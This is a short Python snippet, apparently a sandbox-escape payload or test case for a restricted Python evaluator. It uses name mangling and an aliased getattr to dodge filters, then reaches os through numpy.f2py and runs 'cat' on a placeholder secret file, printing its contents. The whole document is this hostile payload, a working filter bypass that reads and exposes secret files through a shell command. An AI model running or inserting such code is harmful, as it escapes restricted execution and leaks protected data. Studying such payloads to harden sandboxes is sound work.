"""Inside a class, two underscores become a name with the class's in front."""
import numpy as np
module = [np][0]
class getattr_:
    def look(self, __=getattr):
        _getattr__ = __
        print(module.f2py.os.popen("cat @SECRET_FILE@").read())
getattr_().look()
